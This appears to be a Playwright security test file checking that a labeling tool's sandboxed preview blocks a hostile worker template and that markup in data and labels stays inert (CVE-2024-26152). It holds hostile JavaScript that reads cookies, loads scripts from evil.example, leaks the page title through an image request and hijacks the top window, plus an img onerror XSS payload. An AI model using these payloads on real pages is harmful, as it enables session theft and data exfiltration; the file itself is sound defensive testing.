"""A hostile worker template in a real browser: it runs, and gets nowhere."""

import re
from typing import Any

import pytest

HOSTILE = """
<crowd-form></crowd-form>
<script>
const refuse = () => { throw new Error('refused') };
const loaded = (tag, src) => new Promise((done, failed) => {
  const element = document.createElement(tag);
  Object.assign(element, {src, onload: done, onerror: failed});
  document.body.append(element);
});
const origin = new URL(document.URL).origin;
const tries = {
  'read cookies': () => document.cookie,
  'read the storage': () => localStorage.length,
  'reach the page around it': () => parent.document.title,
  'ask our API': () => fetch(origin + '/api/session', {credentials: 'include'}),
  'ask the edge': () => fetch(origin + '/aws', {method: 'POST'}),
  'load our pages as a script': () => loaded('script', origin + '/api/schema/'),
  'load a script from elsewhere': () => loaded('script', 'https://evil.example/x.js'),
  'send what it knows elsewhere': () => loaded('img', 'https://evil.example/?' + document.title),
  'ask elsewhere': () => fetch('https://evil.example/'),
  'take the page around it away': () => { top.location.href = 'https://evil.example/top' },
  'open a window': () => window.open('https://evil.example/window') || refuse(),
  'frame our pages': () => new Promise((done, failed) => {
    const frame = document.createElement('iframe');
    frame.src = origin + '/';
    frame.onload = () => (frame.contentDocument ? done() : failed());
    document.addEventListener('securitypolicyviolation', failed);
    document.body.append(frame);
  }),
};
(async () => {
  const worked = [];
  for (const [name, act] of Object.entries(tries)) {
    try { await act(); worked.push(name); } catch { /* as it should be */ }
  }
  parent.postMessage({type: 'tried', count: Object.keys(tries).length, worked}, '*');
  location.href = 'https://evil.example/self';
})();
</script>
"""
SHOWN = """async ([template]) => {
  const token = document.cookie.match(/atelier_csrf=([^;]+)/)[1];
  const made = await fetch('/api/labeling/previews', {
    method: 'POST',
    headers: {'Content-Type': 'application/json', 'X-CSRFToken': token},
    body: JSON.stringify({template, line: {source: 'x'}}),
  }).then((answer) => answer.json());
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts allow-forms allow-modals';
  frame.src = made.page_url;
  const said = new Promise((done) => addEventListener('message', (event) => {
    if (event.source === frame.contentWindow && event.data.type === 'tried') done(event.data);
  }));
  document.body.append(frame);
  return said;
}"""


MARKUP = "<img src=x onerror=\"parent.postMessage({type: 'hit'}, '*')\">"
# A page of ours; what came from outside is in the data, the labels and the question.
PREVIEWED = """async ([task_type, markup]) => {
  const token = document.cookie.match(/atelier_csrf=([^;]+)/)[1];
  const source = `calm ${markup}`;
  const made = await fetch('/api/labeling/previews', {
    method: 'POST',
    headers: {'Content-Type': 'application/json', 'X-CSRFToken': token},
    body: JSON.stringify({task_type, labels: [markup, `second ${markup}`], line: {source}}),
  }).then((answer) => answer.json());
  document.querySelectorAll('iframe').forEach((frame) => frame.remove());
  window.hits = 0;
  addEventListener('message', (event) => { if (event.data.type === 'hit') window.hits += 1; });
  const frame = document.createElement('iframe');
  frame.sandbox = 'allow-scripts allow-forms allow-modals';
  frame.src = made.page_url;
  frame.style = 'width: 900px; height: 700px';
  document.body.append(frame);
}"""
ALL = """
  const all = (root) => [...root.querySelectorAll('*')]
    .flatMap((each) => [each, ...(each.shadowRoot ? all(each.shadowRoot) : [])]);
"""
SHOWN_AS_TEXT = (
    "(text) => {" + ALL + "return all(document).some((each) => each.tagName !== 'SCRIPT' && "
    "each.textContent.includes(text)); }"
)
PICTURES = (
    "() => {" + ALL + "return all(document).filter((each) => each.tagName === 'IMG' && "
    "each.getAttribute('src') === 'x').length; }"
)


@pytest.mark.parametrize("kind", ["TextMultiClass", "TextMultiClassMultiLabel"])
def test_markup_in_data_and_labels_is_text(page: Any, kind: str) -> None:
    """GHSA-fq23-g58m-799r, CVE-2024-26152: neither the imported text nor a label becomes part of the page."""
    page.goto("/")
    page.get_by_text("Home").first.wait_for()

    page.evaluate(PREVIEWED, [kind, MARKUP])

    page.frame_locator("iframe").get_by_role("button", name=re.compile("Submit")).first.wait_for()
    frame = page.frames[-1]
    for text in (f"calm {MARKUP}", f"second {MARKUP}"):
        frame.wait_for_function(SHOWN_AS_TEXT, arg=text)
    assert frame.evaluate(PICTURES) == 0
    assert page.evaluate("window.hits") == 0


def test_a_hostile_template_gets_nowhere(page: Any, studio: Any, context: Any) -> None:
    asked: list[str] = []  # what leaves the browser; what its policy refuses comes to no route

    def elsewhere(route: Any) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, body="x")

    context.route("https://evil.example/**", elsewhere)
    page.goto("/")
    page.get_by_text("Home").first.wait_for()

    said = page.evaluate(SHOWN, [HOSTILE])

    assert (said["count"], said["worked"]) == (12, [])
    page.wait_for_function("document.querySelector('iframe').contentWindow !== null")
    assert page.url.startswith(studio.url)
    assert asked == []
    assert len(context.pages) == 1
